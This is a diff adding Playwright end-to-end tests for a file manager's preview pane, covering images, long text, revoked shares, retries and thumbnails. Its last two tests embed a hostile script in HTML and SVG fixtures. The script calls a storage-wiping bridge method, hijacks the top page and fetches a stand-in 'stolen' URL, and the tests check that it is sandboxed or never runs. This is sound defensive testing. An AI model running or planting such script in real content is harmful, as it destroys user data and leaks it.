@@ -1,0 +1,150 @@
+import type { Page } from '@playwright/test';
+import { createPreviewPane, type PreviewPane } from '../pages/preview-pane.ts';
+import { expect, test as base } from './story.ts';
+
+const test = base.extend<{ pane: PreviewPane }>({
+  pane: async ({ page }, use) => use(createPreviewPane(page)),
+});
+
+/** What a picture is drawn with: 0 until it is there. */
+const widthOf = (page: Page, alt: string): Promise<number> =>
+  page.getByRole('img', { name: alt }).evaluate((image) => (image as HTMLImageElement).naturalWidth);
+
+test('Space opens the pane, which shows the picture and what is known of it; Space closes it again', async ({
+  page,
+  files,
+  pane,
+}) => {
+  await files.open('myfiles/Pictures/Lake house');
+  await files.select('Jetty.png');
+  await page.keyboard.press('Space');
+  await expect(pane.picture('Jetty.png')).toBeVisible();
+  expect(await widthOf(page, 'Picture: Jetty.png')).toBeGreaterThan(300);
+  await expect(pane.fact('Type')).toHaveText('Picture (PNG)');
+  await expect(pane.fact('Place')).toContainText('myfiles/Pictures/Lake house');
+  await page.keyboard.press('ArrowDown');
+  await expect(pane.picture('Neighbours across.png')).toBeVisible();
+  await page.keyboard.press('Space');
+  await expect(pane.root).toBeHidden();
+});
+
+test('a text is shown as it is, and only its beginning where it is long', async ({
+  page,
+  files,
+  pane,
+  sample,
+}) => {
+  sample.drive.addFile('Inbox/long.log', `first line\n${'more\n'.repeat(400_000)}`);
+  await files.open('myfiles/Inbox');
+  await files.select('long.log');
+  await page.keyboard.press('Space');
+  await expect(pane.inText('long.log').locator('body')).toContainText('first line');
+  await expect(pane.root).toContainText('Only the beginning is shown.');
+  expect(sample.counters.tally('GET download').bytesOut).toBeLessThan(1_500_000);
+});
+
+test('a file nobody can show says what it is, and can still be opened and downloaded', async ({
+  page,
+  files,
+  pane,
+  sample,
+}) => {
+  await files.open('myfiles/Documents');
+  await files.select('Curriculum vitae.docx');
+  await page.keyboard.press('Space');
+  await expect(pane.fact('Type')).toHaveText('Document (DOCX)');
+  await expect(pane.root.getByRole('button', { name: 'Open' })).toBeVisible();
+  await expect(pane.root.getByRole('button', { name: 'Download' })).toBeVisible();
+  await expect(pane.root.getByRole('img', { name: /^Picture/ })).toHaveCount(0);
+  expect(sample.counters.count('GET download')).toBe(0);
+});
+
+test('what was taken back says so instead of pretending', async ({ page, files, pane }) => {
+  await files.around.goTo('Shared');
+  await files.expectFolder('Shared');
+  await files.select('Team offsite agenda.docx');
+  await page.keyboard.press('Space');
+  await files.select('Quarterly figures.xlsx');
+  await files.row('Quarterly figures.xlsx').dblclick();
+  await expect(files.row('Quarterly figures.xlsx')).toContainText('No longer shared with you');
+  await expect(pane.root).toContainText('no longer shared with you');
+  await expect(pane.root.getByRole('button', { name: 'Download' })).toHaveCount(0);
+});
+
+test('a preview that fails says why, and Try again shows it', async ({ page, files, pane, sample }) => {
+  await files.open('myfiles/Documents');
+  await files.select('Packing list.md');
+  sample.faults.add({
+    route: 'GET download',
+    status: 403,
+    code: 'accessDenied',
+    headers: { 'request-id': 'look-1' },
+  });
+  await page.keyboard.press('Space');
+  await expect(pane.root.getByRole('alert')).toBeVisible();
+  await pane.root.getByRole('button', { name: 'Try again' }).click();
+  await expect(pane.inText('Packing list.md').locator('body')).toContainText('Packing list');
+});
+
+test('rows of pictures show the pictures, small', async ({ page, files, sample }) => {
+  await files.open('myfiles/Pictures/Norway 2025');
+  const small = files.row('Morning mist.png').locator('img');
+  await expect(small).toHaveAttribute('src', /content/);
+  await expect
+    .poll(() => small.evaluate((image) => (image as HTMLImageElement).naturalWidth))
+    .toBeGreaterThan(0);
+  await expect.poll(() => page.locator('[role="grid"] img').count()).toBe(12);
+  expect(sample.counters.count('GET download'), 'no picture was fetched whole for it').toBe(0);
+});
+
+const hostile = `<script>
+  document.title = 'taken over';
+  try { parent.slipway.call('storage.forgetEverything', { includeDocuments: true }); } catch {}
+  try { top.document.body.textContent = 'taken over'; } catch {}
+  try { fetch('http://127.0.0.1:9/stolen'); } catch {}
+</script>`;
+
+test('a script in an HTML file from the drive is text on screen and nothing else', async ({
+  page,
+  files,
+  pane,
+  sample,
+}) => {
+  sample.drive.addFile('Inbox/evil.html', `<!doctype html><h1>hello</h1>${hostile}`);
+  await files.open('myfiles/Inbox');
+  await files.select('evil.html');
+  await page.keyboard.press('Space');
+  await expect(pane.inText('evil.html').locator('body')).toContainText('<h1>hello</h1>');
+  await expect(pane.inText('evil.html').locator('h1')).toHaveCount(0);
+  await expect(pane.text('evil.html')).toHaveAttribute('sandbox', '');
+  const inside = page.frames().find((frame) => frame !== page.mainFrame() && frame.url().includes('content'));
+  expect(await inside?.evaluate(() => ({ bridge: 'slipway' in window, origin: window.origin }))).toEqual({
+    bridge: false,
+    origin: 'null',
+  });
+  await expect(page).toHaveTitle(/^Inbox - /);
+});
+
+test('a script in an SVG from the drive never runs: it is a picture', async ({
+  page,
+  files,
+  pane,
+  sample,
+}) => {
+  const script = hostile
+    .replace('<script>', '<script type="text/javascript"><![CDATA[')
+    .replace('</script>', ']]></script>');
+  sample.drive.addFile(
+    'Inbox/evil.svg',
+    `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" onload="document.title='taken over'">${script}
+      <image href="${sample.graphUrl}/beacon" width="10" height="10"/><rect width="120" height="80" fill="teal"/></svg>`,
+  );
+  await files.open('myfiles/Inbox');
+  await files.select('evil.svg');
+  await page.keyboard.press('Space');
+  await expect(pane.picture('evil.svg')).toBeVisible();
+  expect(await widthOf(page, 'Picture: evil.svg')).toBe(120);
+  await expect(page).toHaveTitle(/^Inbox - /);
+  await expect(files.row('evil.svg')).toBeVisible();
+  expect(sample.counters.count(/beacon/)).toBe(0);
+});
